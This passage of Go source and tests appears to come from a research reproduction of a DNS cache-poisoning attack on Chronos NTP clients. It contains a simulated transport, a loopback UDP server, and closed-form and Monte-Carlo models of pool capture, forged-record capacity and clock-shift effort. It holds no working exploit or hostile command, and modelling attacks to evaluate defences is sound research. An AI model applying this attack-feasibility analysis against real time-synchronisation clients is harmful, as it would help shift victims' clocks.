	t.Clk.Step(t.Host.Net().Now(), delta)
}

// Correction returns the client clock's current error against virtual
// true time.
func (t *SimTransport) Correction() time.Duration {
	if t.Clk == nil {
		return 0
	}
	return t.Clk.Offset(t.Host.Net().Now())
}

// Exchange implements Transport on the simulated network.
func (t *SimTransport) Exchange(server netip.AddrPort, timeout time.Duration) (Sample, error) {
	nw := t.Host.Net()
	addr := simnet.AddrFromAddrPort(server)
	port := t.Host.EphemeralPort()
	if port == 0 {
		return Sample{}, errors.New("wirenet: no ephemeral port on simulated host")
	}

	trueT1 := nw.Now()
	t1 := t.clockNow(trueT1)
	var (
		sample Sample
		got    bool
	)
	err := t.Host.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
		if got || meta.From != addr {
			return
		}
		var resp ntpwire.Packet
		if ntpwire.DecodeInto(&resp, payload) != nil {
			return
		}
		if !ntpwire.ValidServerResponse(&resp, ntpwire.TimestampFromTime(t1)) {
			return
		}
		t4 := t.clockNow(now)
		off, delay := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
		sample = Sample{Offset: off, Delay: delay, Resp: resp}
		got = true
	})
	if err != nil {
		return Sample{}, err
	}
	defer t.Host.Close(port)

	req := ntpwire.NewClientPacket(t1)
	if err := t.Host.SendUDP(port, addr, req.Encode()); err != nil {
		return Sample{}, err
	}
	nw.RunFor(timeout)
	if !got {
		return Sample{}, fmt.Errorf("%w: %s", ErrTimeout, server)
	}
	return sample, nil
}
