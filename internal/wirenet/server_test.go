package wirenet

import (
	"net"
	"net/netip"
	"sync"
	"testing"
	"time"

	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
)

// exchangeOnce is a minimal raw client: one request, one validated reply.
func exchangeOnce(t *testing.T, ap netip.AddrPort, timeout time.Duration) (*ntpwire.Packet, error) {
	t.Helper()
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(ap))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	t1 := time.Now()
	if _, err := conn.Write(ntpwire.NewClientPacket(t1).Encode()); err != nil {
		t.Fatal(err)
	}
	if err := conn.SetReadDeadline(time.Now().Add(timeout)); err != nil {
		t.Fatal(err)
	}
	var buf [readBufSize]byte
	n, err := conn.Read(buf[:])
	if err != nil {
		return nil, err
	}
	resp, err := ntpwire.Decode(buf[:n])
	if err != nil {
		t.Fatalf("undecodable reply: %v", err)
	}
	if !ntpwire.ValidServerResponse(resp, ntpwire.TimestampFromTime(t1)) {
		t.Fatalf("invalid reply: %+v", resp)
	}
	return resp, nil
}

func TestServeAnswersRequest(t *testing.T) {
	srv, err := Serve(ServerConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	resp, err := exchangeOnce(t, srv.AddrPort(), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Stratum != 2 || resp.Mode != ntpwire.ModeServer {
		t.Fatalf("unexpected reply: stratum=%d mode=%d", resp.Stratum, resp.Mode)
	}
	if srv.Served() != 1 {
		t.Fatalf("served=%d, want 1", srv.Served())
	}
}

func TestServeDropsMalformed(t *testing.T) {
	srv, err := Serve(ServerConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(srv.AddrPort()))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// Garbage lengths and a non-client mode must be discarded silently.
	for _, payload := range [][]byte{nil, {0x23}, make([]byte, 47), ntpwire.NewClientPacket(time.Now()).Encode()[:40]} {
		if _, err := conn.Write(payload); err != nil && len(payload) > 0 {
			t.Fatal(err)
		}
	}
	mode4 := &ntpwire.Packet{Version: 4, Mode: ntpwire.ModeServer}
	if _, err := conn.Write(mode4.Encode()); err != nil {
		t.Fatal(err)
	}
	// The server must still be alive and answering after the garbage.
	deadline := time.Now().Add(2 * time.Second)
	for {
		if _, err := exchangeOnce(t, srv.AddrPort(), 200*time.Millisecond); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("server stopped answering after malformed datagrams")
		}
	}
	if srv.Dropped() == 0 {
		t.Fatal("malformed datagrams were not counted as dropped")
	}
}

// TestWireServeConcurrent hammers one server from 64 goroutines — the
// race/soak test the CI race job runs. In -short mode each goroutine
// sends a handful of requests; the full soak sends a few thousand total.
func TestWireServeConcurrent(t *testing.T) {
	srv, err := Serve(ServerConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	const goroutines = 64
	perG := 100
	if testing.Short() {
		perG = 10
	}
	var wg sync.WaitGroup
	errs := make(chan error, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(srv.AddrPort()))
			if err != nil {
				errs <- err
				return
			}
			defer conn.Close()
			var buf [readBufSize]byte
			var resp ntpwire.Packet
			for i := 0; i < perG; i++ {
				t1 := time.Now()
				if _, err := conn.Write(ntpwire.NewClientPacket(t1).Encode()); err != nil {
					errs <- err
					return
				}
				if err := conn.SetReadDeadline(time.Now().Add(5 * time.Second)); err != nil {
					errs <- err
					return
				}
				n, err := conn.Read(buf[:])
				if err != nil {
					errs <- err
					return
				}
				if err := ntpwire.DecodeInto(&resp, buf[:n]); err != nil {
					errs <- err
					return
				}
				if !ntpwire.ValidServerResponse(&resp, ntpwire.TimestampFromTime(t1)) {
					errs <- err
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	if want := uint64(goroutines * perG); srv.Served() != want {
		t.Fatalf("served=%d, want %d", srv.Served(), want)
	}
}

// gateStrategy blocks inside the responder until released, so the test
// can hold a request in-flight across a Close call.
type gateStrategy struct {
	entered chan struct{}
	release chan struct{}
}

func (g *gateStrategy) Shift(time.Time) time.Duration {
	g.entered <- struct{}{}
	<-g.release
	return 0
}

// TestCloseDrainsInFlight proves the drain guarantee: a request already
// read from the socket when Close begins still gets its response before
// the socket goes down.
func TestCloseDrainsInFlight(t *testing.T) {
	gate := &gateStrategy{entered: make(chan struct{}), release: make(chan struct{})}
	srv, err := Serve(ServerConfig{
		Listeners:    1,
		Responder:    ntpserver.NewResponder(ntpserver.Config{Strategy: gate}),
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}

	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(srv.AddrPort()))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	t1 := time.Now()
	if _, err := conn.Write(ntpwire.NewClientPacket(t1).Encode()); err != nil {
		t.Fatal(err)
	}
	<-gate.entered // the listener has read the packet and is mid-response

	closed := make(chan error, 1)
	go func() { closed <- srv.Close() }()
	// Give Close a moment to begin the drain, then let the handler finish.
	time.Sleep(50 * time.Millisecond)
	close(gate.release)

	if err := conn.SetReadDeadline(time.Now().Add(3 * time.Second)); err != nil {
		t.Fatal(err)
	}
	var buf [readBufSize]byte
	n, err := conn.Read(buf[:])
	if err != nil {
		t.Fatalf("in-flight request was dropped during Close: %v", err)
	}
	resp, err := ntpwire.Decode(buf[:n])
	if err != nil || !ntpwire.ValidServerResponse(resp, ntpwire.TimestampFromTime(t1)) {
		t.Fatalf("drained response invalid: %v %+v", err, resp)
	}
	if err := <-closed; err != nil {
		t.Fatalf("Close: %v", err)
	}
	if srv.Served() != 1 {
		t.Fatalf("served=%d, want 1", srv.Served())
	}
}

func TestCloseIdempotent(t *testing.T) {
	srv, err := Serve(ServerConfig{})
	if err != nil {
		t.Fatal(err)
	}
	if err := srv.Close(); err != nil {
		t.Fatalf("first Close: %v", err)
	}
	if err := srv.Close(); err != ErrServerClosed {
		t.Fatalf("second Close = %v, want ErrServerClosed", err)
	}
}
