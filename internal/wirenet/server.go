// Package wirenet binds the NTP stack to real UDP sockets: a concurrent
// production-path server around the same ntpserver.Responder the simnet
// servers use, and a Transport abstraction under which real loopback UDP
// and the discrete-event simulator are interchangeable NTP client
// substrates.
//
// The package exists to close the gap the paper's threat model lives in:
// every attack in this reproduction ultimately targets on-the-wire NTP
// traffic, so the wire format, timeout and escalation logic must hold up
// against real sockets under load, not only inside the simulator. The
// conformance tests in this package pin the two paths to each other —
// byte-identical replies from the shared responder, identical
// chronos.Rule decisions from the shared sampling and evaluation core —
// so wire mode can never drift from the simulation the experiments run
// on.
//
// Performance contract: the steady serve path (read → decode → respond →
// encode → write) performs zero heap allocations per request; every
// buffer and packet struct is per-read-loop state reused across
// requests. BenchmarkWireServe gates this in CI via cmd/benchdiff's
// allocs/op trajectory.
package wirenet

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"chronosntp/internal/ntpserver"
	"chronosntp/internal/simnet"
)

// readBufSize is the per-listener receive buffer. NTP requests are 48
// bytes; the slack admits extension fields and MACs without truncation
// marking a datagram malformed for the wrong reason.
const readBufSize = 1024

// ErrServerClosed is returned by Serve-side operations after Close.
var ErrServerClosed = errors.New("wirenet: server closed")

// ServerConfig parameterises a Server.
type ServerConfig struct {
	// Addr is the UDP listen address, e.g. "127.0.0.1:0" (loopback,
	// kernel-assigned port). Defaults to "127.0.0.1:0".
	Addr string
	// Listeners is the number of concurrent read loops sharing the
	// socket; default GOMAXPROCS.
	Listeners int
	// Responder builds replies; nil means an honest defaults-only
	// ntpserver.NewResponder(ntpserver.Config{}).
	Responder *ntpserver.Responder
	// Now supplies receive timestamps; default time.Now. Tests inject a
	// deterministic clock here to make replies byte-reproducible.
	Now func() time.Time
	// DrainTimeout bounds how long Close waits for requests already read
	// from the socket to finish being answered; default 1s.
	DrainTimeout time.Duration
}

func (c ServerConfig) withDefaults() ServerConfig {
	if c.Addr == "" {
		c.Addr = "127.0.0.1:0"
	}
	if c.Listeners <= 0 {
		c.Listeners = runtime.GOMAXPROCS(0)
	}
	if c.Responder == nil {
		c.Responder = ntpserver.NewResponder(ntpserver.Config{})
	}
	if c.Now == nil {
		c.Now = time.Now
	}
	if c.DrainTimeout <= 0 {
		c.DrainTimeout = time.Second
	}
	return c
}

// Server is a concurrent UDP NTP server on a real socket. Listeners
// read-loop goroutines share one socket; each owns its request/response
// packet structs and buffers, so the steady path allocates nothing.
type Server struct {
	cfg    ServerConfig
	conn   *net.UDPConn
	wg     sync.WaitGroup
	closed atomic.Bool

	// authMu serialises ServeDatagram across listeners when an auth
	// policy is configured: ntpauth.ServerAuth owns reusable digest and
	// AEAD scratch that is not concurrency-safe. Unauthenticated servers
	// skip the lock entirely, leaving the zero-alloc hot path untouched.
	authMu     sync.Mutex
	authSerial bool

	served  atomic.Uint64 // requests answered
	dropped atomic.Uint64 // datagrams discarded (malformed, wrong mode, write failure)
}

// Serve binds the socket and starts the read loops.
func Serve(cfg ServerConfig) (*Server, error) {
	cfg = cfg.withDefaults()
	addr, err := net.ResolveUDPAddr("udp4", cfg.Addr)
	if err != nil {
		return nil, fmt.Errorf("wirenet: resolve %q: %w", cfg.Addr, err)
	}
	conn, err := net.ListenUDP("udp4", addr)
	if err != nil {
		return nil, fmt.Errorf("wirenet: listen %q: %w", cfg.Addr, err)
	}
	s := &Server{cfg: cfg, conn: conn, authSerial: cfg.Responder.Config().Auth != nil}
	s.wg.Add(cfg.Listeners)
	for i := 0; i < cfg.Listeners; i++ {
		go s.readLoop()
	}
	return s, nil
}

// AddrPort returns the bound endpoint (with the kernel-assigned port).
func (s *Server) AddrPort() netip.AddrPort {
	return s.conn.LocalAddr().(*net.UDPAddr).AddrPort()
}

// Responder returns the server's reply core (for stats and strategy
// swaps while serving).
func (s *Server) Responder() *ntpserver.Responder { return s.cfg.Responder }

// Served reports how many requests were answered.
func (s *Server) Served() uint64 { return s.served.Load() }

// Dropped reports how many datagrams were discarded.
func (s *Server) Dropped() uint64 { return s.dropped.Load() }

// Close shuts the server down gracefully: it stops the read loops from
// accepting new datagrams, then waits up to DrainTimeout for requests
// already read from the socket to be answered before closing it — no
// packet that entered a read loop before Close is dropped, which the
// drain test asserts. Close is idempotent.
func (s *Server) Close() error {
	if !s.closed.CompareAndSwap(false, true) {
		return ErrServerClosed
	}
	// Unblock readers parked in ReadFromUDPAddrPort; in-flight responses
	// still write fine, the socket stays open through the drain.
	_ = s.conn.SetReadDeadline(time.Now())
	done := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(s.cfg.DrainTimeout):
	}
	return s.conn.Close()
}

// readLoop is one listener goroutine: all per-request state lives here
// and is reused, keeping the steady path at zero allocations.
func (s *Server) readLoop() {
	defer s.wg.Done()
	var (
		buf [readBufSize]byte
		st  ntpserver.ServeState
	)
	out := make([]byte, 0, readBufSize)
	for {
		n, from, err := s.conn.ReadFromUDPAddrPort(buf[:])
		if err != nil {
			return // closed or drain deadline
		}
		out, _ = s.serveOne(&st, out, buf[:n], from)
	}
}

// serveOne answers a single datagram through the shared authenticated
// serve core (ntpserver.Responder.ServeDatagram): decode, classify
// credentials, respond, credential-seal, write. It returns the (possibly
// regrown) output buffer and whether a reply was sent. The fuzz target
// drives this function directly with arbitrary payloads.
func (s *Server) serveOne(st *ntpserver.ServeState, out []byte, payload []byte, from netip.AddrPort) ([]byte, bool) {
	if s.authSerial {
		s.authMu.Lock()
	}
	b, ok := s.cfg.Responder.ServeDatagram(out, s.cfg.Now(), payload, st, simnet.AddrFromAddrPort(from))
	if s.authSerial {
		s.authMu.Unlock()
	}
	if !ok {
		s.dropped.Add(1)
		return b, false
	}
	if _, err := s.conn.WriteToUDPAddrPort(b, from); err != nil {
		s.dropped.Add(1)
		return b, false
	}
	s.served.Add(1)
	return b, true
}
