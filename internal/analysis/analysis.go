// Package analysis reproduces the paper's closed-form results:
//
//   - the pool-composition arithmetic behind Figure 1 ("44 benign and 89
//     malicious NTP servers, which is a 2/3 majority for the attacker")
//     and the §IV bound ("if the cache-poisoning attack succeeds until or
//     during the 12th DNS request, the attacker still controls more than
//     2/3 of the addresses");
//   - the forged-response capacity ("up to 89 for a single non-fragmented
//     DNS response");
//   - Chronos' original security bound ("to shift time on a Chronos NTP
//     client by 100ms a strong MitM attacker would need 20 years of
//     effort") and its collapse once the attacker crosses the ⅓ / ⅔
//     pool-fraction thresholds.
package analysis

import (
	"errors"
	"math"
	"math/rand"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/stats"
)

// PoolComposition is the state of a Chronos pool after generation with a
// poisoning event at a given query index.
type PoolComposition struct {
	PoisonQuery int     // 1-based query index at which poisoning succeeded; 0 = never
	Benign      int     // benign addresses accumulated
	Malicious   int     // attacker addresses injected
	Fraction    float64 // attacker share of the pool
}

// ComposePool computes the pool composition when the attacker's forged
// response (injected addresses, TTL > generation horizon) lands at query
// poisonQuery out of totalQueries, with perResponse benign addresses per
// clean query. Queries after the poisoning are answered from cache and
// contribute nothing (the TTL pinning). poisonQuery 0 means no attack.
//
// This is the model behind Figure 1: ComposePool(12, 24, 4, 89) yields 44
// benign + 89 malicious ≈ 66.9 % ≥ 2/3.
func ComposePool(poisonQuery, totalQueries, perResponse, injected int) PoolComposition {
	if poisonQuery <= 0 || poisonQuery > totalQueries {
		return PoolComposition{Benign: perResponse * totalQueries}
	}
	benign := perResponse * (poisonQuery - 1)
	total := benign + injected
	frac := 0.0
	if total > 0 {
		frac = float64(injected) / float64(total)
	}
	return PoolComposition{
		PoisonQuery: poisonQuery,
		Benign:      benign,
		Malicious:   injected,
		Fraction:    frac,
	}
}

// MaxPoisonQuery returns the largest query index at which poisoning still
// leaves the attacker with at least threshold of the pool. For the paper's
// parameters (4 per response, 89 injected, threshold 2/3) this is 12.
func MaxPoisonQuery(totalQueries, perResponse, injected int, threshold float64) int {
	best := 0
	for q := 1; q <= totalQueries; q++ {
		if ComposePool(q, totalQueries, perResponse, injected).Fraction >= threshold {
			best = q
		}
	}
	return best
}

// CaptureThreshold is the sample fraction an attacker must reach for
// Chronos' trimmed mean to be fully attacker-controlled: with trim d =
// m/3, all survivors are malicious iff the attacker holds at least
// m − d = ⌈2m/3⌉ of the m samples.
func CaptureThreshold(sampleSize, trim int) int { return sampleSize - trim }

// RoundWinProb returns the probability that one Chronos sampling round is
// fully captured: drawing at least (m − d) attacker servers when sampling
// m of a pool of poolSize containing malicious attacker servers
// (hypergeometric tail).
func RoundWinProb(poolSize, malicious, sampleSize, trim int) float64 {
	return stats.HypergeomTail(poolSize, malicious, sampleSize, CaptureThreshold(sampleSize, trim))
}

// ErrBadParams reports invalid attack-time parameters.
var ErrBadParams = errors.New("analysis: invalid parameters")

// ShiftTime is the expected attacker effort to accumulate a target clock
// shift against Chronos.
type ShiftTime struct {
	WinProb         float64       // per-round full-capture probability
	ConsecutiveWins int           // rounds in a row needed (panic resets progress)
	ExpectedRounds  float64       // E[rounds] until the run of wins
	Expected        time.Duration // ExpectedRounds × round interval (saturates)
	Years           float64       // Expected in years (may be +Inf)
}

// TimeToShift computes the expected effort to shift a Chronos client by
// target when each captured round moves the clock at most perRoundStep
// (the C2 acceptance bound): the attacker needs ⌈target/perRoundStep⌉
// consecutive captured rounds, and any uncaptured round triggers Chronos'
// re-sample/panic recovery, resetting progress.
func TimeToShift(target, perRoundStep time.Duration, winProb float64, interval time.Duration) (ShiftTime, error) {
	if target <= 0 || perRoundStep <= 0 || interval <= 0 {
		return ShiftTime{}, ErrBadParams
	}
	c := int(math.Ceil(float64(target) / float64(perRoundStep)))
	rounds, err := stats.ExpectedTrialsToRun(winProb, c)
	if err != nil {
		return ShiftTime{}, err
	}
	st := ShiftTime{WinProb: winProb, ConsecutiveWins: c, ExpectedRounds: rounds}
	hours := rounds * interval.Hours()
	st.Years = hours / (24 * 365)
	if math.IsInf(rounds, 1) || rounds > float64(math.MaxInt64/int64(interval)) {
		st.Expected = time.Duration(math.MaxInt64)
	} else {
		st.Expected = time.Duration(rounds * float64(interval))
	}
	return st, nil
}

// WithinHorizon reports whether the expected effort fits inside an attack
// horizon — the closed-form "shifted" predicate the population studies
// compare their empirical measurements against.
func (st ShiftTime) WithinHorizon(horizon time.Duration) bool {
	return !math.IsInf(st.ExpectedRounds, 1) && st.Expected <= horizon
}

// YearsToShift is the composition used by the experiment tables: pool
// parameters in, expected attacker years out.
func YearsToShift(poolSize, malicious, sampleSize, trim int, target, perRoundStep, interval time.Duration) (ShiftTime, error) {
	p := RoundWinProb(poolSize, malicious, sampleSize, trim)
	return TimeToShift(target, perRoundStep, p, interval)
}

// SimulateRoundsToShift Monte-Carlo-samples the number of rounds until c
// consecutive captured rounds, drawing sample compositions from the
// hypergeometric pool. It cross-checks the closed form for regimes where
// simulation is feasible (large winProb).
func SimulateRoundsToShift(rng *rand.Rand, poolSize, malicious, sampleSize, trim, c, trials int) float64 {
	need := CaptureThreshold(sampleSize, trim)
	total := 0.0
	for t := 0; t < trials; t++ {
		run, n := 0, 0
		for run < c {
			n++
			if drawMalicious(rng, poolSize, malicious, sampleSize) >= need {
				run++
			} else {
				run = 0
			}
			if n > 10_000_000 {
				break // pathological regime; caller should use closed form
			}
		}
		total += float64(n)
	}
	return total / float64(trials)
}

// drawMalicious samples without replacement and counts attacker hits.
func drawMalicious(rng *rand.Rand, poolSize, malicious, sampleSize int) int {
	hits := 0
	remainingMal := malicious
	remaining := poolSize
	for i := 0; i < sampleSize; i++ {
		if rng.Intn(remaining) < remainingMal {
			hits++
			remainingMal--
		}
		remaining--
	}
	return hits
}

// OpportunityAdvantage quantifies the paper's "even easier than attacks
// against plain NTP" argument: a classic client resolves the pool name
// once (one poisoning opportunity, and success yields only ≤4 forged
// servers), while Chronos' pool generation re-queries hourly, giving the
// attacker `opportunities` tries (12 within the ≥2/3 window) — and success
// imports 89 servers.
type OpportunityAdvantage struct {
	PerAttempt    float64 // poisoning success probability per attempt
	Classic       float64 // P[classic client poisoned] = per-attempt
	Chronos       float64 // P[Chronos pool captured ≥2/3] = 1-(1-p)^opportunities
	Advantage     float64 // Chronos / Classic
	Opportunities int
}

// CompareOpportunities computes the advantage for a per-attempt poisoning
// success probability p and the number of usable Chronos queries
// (MaxPoisonQuery, 12 for the paper's parameters).
func CompareOpportunities(p float64, opportunities int) OpportunityAdvantage {
	if p < 0 {
		p = 0
	}
	if p > 1 {
		p = 1
	}
	chronos := 1 - math.Pow(1-p, float64(opportunities))
	adv := 0.0
	if p > 0 {
		adv = chronos / p
	}
	return OpportunityAdvantage{
		PerAttempt: p, Classic: p, Chronos: chronos,
		Advantage: adv, Opportunities: opportunities,
	}
}

// ForgedRecordCapacity reproduces the §IV "89" computation directly from
// the wire encoder for a set of payload sizes.
type ForgedRecordCapacity struct {
	Payload int
	EDNS    bool
	Records int
}

// RecordCapacityTable computes the forged-record capacity across standard
// payload sizes.
func RecordCapacityTable(qname string) ([]ForgedRecordCapacity, error) {
	cases := []struct {
		payload int
		edns    bool
	}{
		{dnswire.ClassicMaxUDP, false},
		{1232, true}, // DNS-flag-day recommended EDNS size
		{dnswire.EthernetMaxPayload, true},
		{4096, true},
	}
	out := make([]ForgedRecordCapacity, 0, len(cases))
	for _, c := range cases {
		n, err := dnswire.MaxARecords(qname, c.payload, c.edns)
		if err != nil {
			return nil, err
		}
		out = append(out, ForgedRecordCapacity{Payload: c.payload, EDNS: c.edns, Records: n})
	}
	return out, nil
}
