package analysis

import (
	"math"
	"math/rand"
	"testing"
	"time"
)

func TestComposePoolFigure1(t *testing.T) {
	// The paper: poisoning at query 12 → 4·11 = 44 benign + 89 malicious,
	// a 2/3 majority for the attacker.
	c := ComposePool(12, 24, 4, 89)
	if c.Benign != 44 {
		t.Errorf("benign = %d, want 44", c.Benign)
	}
	if c.Malicious != 89 {
		t.Errorf("malicious = %d, want 89", c.Malicious)
	}
	if c.Fraction < 2.0/3.0 {
		t.Errorf("fraction = %v, want >= 2/3", c.Fraction)
	}
	// One query later the attacker drops below 2/3.
	c13 := ComposePool(13, 24, 4, 89)
	if c13.Fraction >= 2.0/3.0 {
		t.Errorf("fraction at q=13 = %v, want < 2/3", c13.Fraction)
	}
}

func TestComposePoolNoAttack(t *testing.T) {
	c := ComposePool(0, 24, 4, 89)
	if c.Benign != 96 || c.Malicious != 0 || c.Fraction != 0 {
		t.Errorf("no-attack composition: %+v", c)
	}
	// Out-of-range query index behaves like no attack.
	c = ComposePool(25, 24, 4, 89)
	if c.Malicious != 0 {
		t.Errorf("late poison composition: %+v", c)
	}
}

func TestComposePoolFirstQuery(t *testing.T) {
	// Poisoning the very first query leaves zero benign servers.
	c := ComposePool(1, 24, 4, 89)
	if c.Benign != 0 || c.Fraction != 1 {
		t.Errorf("q=1 composition: %+v", c)
	}
}

func TestMaxPoisonQueryReproducesPaperBound(t *testing.T) {
	// §IV: "the attacker therefore only needs to successfully attack the
	// DNS once out of 12 queries during the first 11 hours".
	if got := MaxPoisonQuery(24, 4, 89, 2.0/3.0); got != 12 {
		t.Errorf("MaxPoisonQuery = %d, want 12", got)
	}
	// With the §V cap of 4 injected addresses, 2/3 is reachable only at
	// the very first query (0 benign + 4 malicious = 100%).
	if got := MaxPoisonQuery(24, 4, 4, 2.0/3.0); got != 1 {
		t.Errorf("MaxPoisonQuery with 4-record cap = %d, want 1", got)
	}
}

func TestCaptureThreshold(t *testing.T) {
	if got := CaptureThreshold(15, 5); got != 10 {
		t.Errorf("threshold = %d, want 10 (2m/3)", got)
	}
}

func TestRoundWinProbMonotone(t *testing.T) {
	// More malicious servers → higher capture probability.
	prev := 0.0
	for mal := 0; mal <= 133; mal += 19 {
		p := RoundWinProb(133, mal, 15, 5)
		if p < prev {
			t.Fatalf("win prob decreased at mal=%d", mal)
		}
		prev = p
	}
	// Paper pool: 89/133 ≈ 2/3 → capture more likely than not.
	if p := RoundWinProb(133, 89, 15, 5); p < 0.5 {
		t.Errorf("poisoned-pool win prob = %v, want >= 0.5", p)
	}
	// Below-1/3 attacker: capture is rare.
	if p := RoundWinProb(96, 31, 15, 5); p > 0.02 {
		t.Errorf("sub-third win prob = %v, want small", p)
	}
}

func TestTimeToShiftChronosClaim(t *testing.T) {
	// Reproduce the order of magnitude of the Chronos NDSS'18 claim the
	// paper cites: shifting by 100 ms takes ≥ 20 years for an attacker at
	// the 1/3 boundary (hourly rounds, 25 ms per-round cap).
	st, err := YearsToShift(500, 166, 15, 5, 100*time.Millisecond, 25*time.Millisecond, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if st.ConsecutiveWins != 4 {
		t.Errorf("consecutive wins = %d, want 4", st.ConsecutiveWins)
	}
	if st.Years < 20 {
		t.Errorf("years = %v, want >= 20 (paper: '20 years of effort')", st.Years)
	}
	// The collapse: at the poisoned 2/3 pool the same shift takes hours.
	st2, err := YearsToShift(133, 89, 15, 5, 100*time.Millisecond, 25*time.Millisecond, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if st2.Expected > 100*time.Hour {
		t.Errorf("post-poison expected effort = %v, want << honest case", st2.Expected)
	}
	if !(st2.Years < st.Years/1e3) {
		t.Errorf("collapse factor too small: %v vs %v years", st2.Years, st.Years)
	}
}

func TestTimeToShiftEdgeCases(t *testing.T) {
	if _, err := TimeToShift(0, time.Millisecond, 0.5, time.Hour); err == nil {
		t.Error("zero target accepted")
	}
	if _, err := TimeToShift(time.Second, 0, 0.5, time.Hour); err == nil {
		t.Error("zero step accepted")
	}
	st, err := TimeToShift(100*time.Millisecond, 25*time.Millisecond, 0, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if !math.IsInf(st.Years, 1) || st.Expected != time.Duration(math.MaxInt64) {
		t.Errorf("p=0 should be infinite effort: %+v", st)
	}
	// p=1: exactly c rounds.
	st, err = TimeToShift(100*time.Millisecond, 25*time.Millisecond, 1, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if st.ExpectedRounds != 4 {
		t.Errorf("p=1 rounds = %v, want 4", st.ExpectedRounds)
	}
}

func TestSimulateMatchesClosedForm(t *testing.T) {
	// In the post-poisoning regime the closed form and the Monte-Carlo
	// simulation must agree.
	rng := rand.New(rand.NewSource(7))
	const (
		poolSize = 133
		mal      = 89
		m        = 15
		d        = 5
		c        = 4
	)
	p := RoundWinProb(poolSize, mal, m, d)
	want, err := TimeToShift(100*time.Millisecond, 25*time.Millisecond, p, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	got := SimulateRoundsToShift(rng, poolSize, mal, m, d, c, 400)
	if rel := math.Abs(got-want.ExpectedRounds) / want.ExpectedRounds; rel > 0.15 {
		t.Errorf("simulated %v vs closed form %v rounds (rel err %v)", got, want.ExpectedRounds, rel)
	}
}

func TestRecordCapacityTable(t *testing.T) {
	table, err := RecordCapacityTable("pool.ntp.org")
	if err != nil {
		t.Fatal(err)
	}
	if len(table) != 4 {
		t.Fatalf("rows = %d", len(table))
	}
	byPayload := map[int]int{}
	for _, row := range table {
		byPayload[row.Payload] = row.Records
	}
	if byPayload[512] != 30 {
		t.Errorf("512B capacity = %d, want 30", byPayload[512])
	}
	if byPayload[1472] != 89 {
		t.Errorf("1472B capacity = %d, want the paper's 89", byPayload[1472])
	}
	if byPayload[4096] <= 89 {
		t.Errorf("4096B capacity = %d, want > 89", byPayload[4096])
	}
	if _, err := RecordCapacityTable("bad..name"); err == nil {
		t.Error("invalid qname accepted")
	}
}

func TestCompareOpportunities(t *testing.T) {
	// The paper's qualitative claim: Chronos' 12 poisoning windows make
	// the DNS attack strictly easier than against a classic client.
	adv := CompareOpportunities(0.1, 12)
	if adv.Classic != 0.1 {
		t.Errorf("classic = %v", adv.Classic)
	}
	want := 1 - math.Pow(0.9, 12)
	if !almostEqualF(adv.Chronos, want, 1e-12) {
		t.Errorf("chronos = %v, want %v", adv.Chronos, want)
	}
	if adv.Advantage <= 1 {
		t.Errorf("advantage = %v, want > 1", adv.Advantage)
	}
	// Degenerate probabilities clamp.
	if got := CompareOpportunities(-1, 12); got.Chronos != 0 || got.Advantage != 0 {
		t.Errorf("p<0: %+v", got)
	}
	if got := CompareOpportunities(2, 12); got.Classic != 1 || got.Chronos != 1 {
		t.Errorf("p>1: %+v", got)
	}
	// With a single opportunity there is no advantage.
	if got := CompareOpportunities(0.3, 1); !almostEqualF(got.Advantage, 1, 1e-12) {
		t.Errorf("single-opportunity advantage = %v", got.Advantage)
	}
}

func almostEqualF(a, b, eps float64) bool { return math.Abs(a-b) <= eps }

func TestDrawMaliciousBounds(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	for i := 0; i < 200; i++ {
		k := drawMalicious(rng, 100, 30, 15)
		if k < 0 || k > 15 || k > 30 {
			t.Fatalf("draw out of bounds: %d", k)
		}
	}
	// Mean sanity: E[k] = m * K/N = 4.5.
	sum := 0
	for i := 0; i < 5000; i++ {
		sum += drawMalicious(rng, 100, 30, 15)
	}
	mean := float64(sum) / 5000
	if mean < 4.2 || mean > 4.8 {
		t.Errorf("hypergeometric draw mean = %v, want ~4.5", mean)
	}
}
