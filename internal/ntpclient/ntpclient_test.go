package ntpclient

import (
	"testing"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnsserver"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

var clientIP = simnet.IPv4(10, 0, 0, 1)

// rig wires a network with an NTP server farm and one client.
type rig struct {
	net     *simnet.Network
	client  *Client
	servers []*ntpserver.Server
}

func newRig(t *testing.T, seed int64, honest, malicious int, shift time.Duration, initialErr time.Duration) *rig {
	t.Helper()
	n := simnet.New(simnet.Config{Seed: seed})
	var ips []simnet.IP
	servers, hips, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 113, 1), honest, time.Millisecond, 5)
	if err != nil {
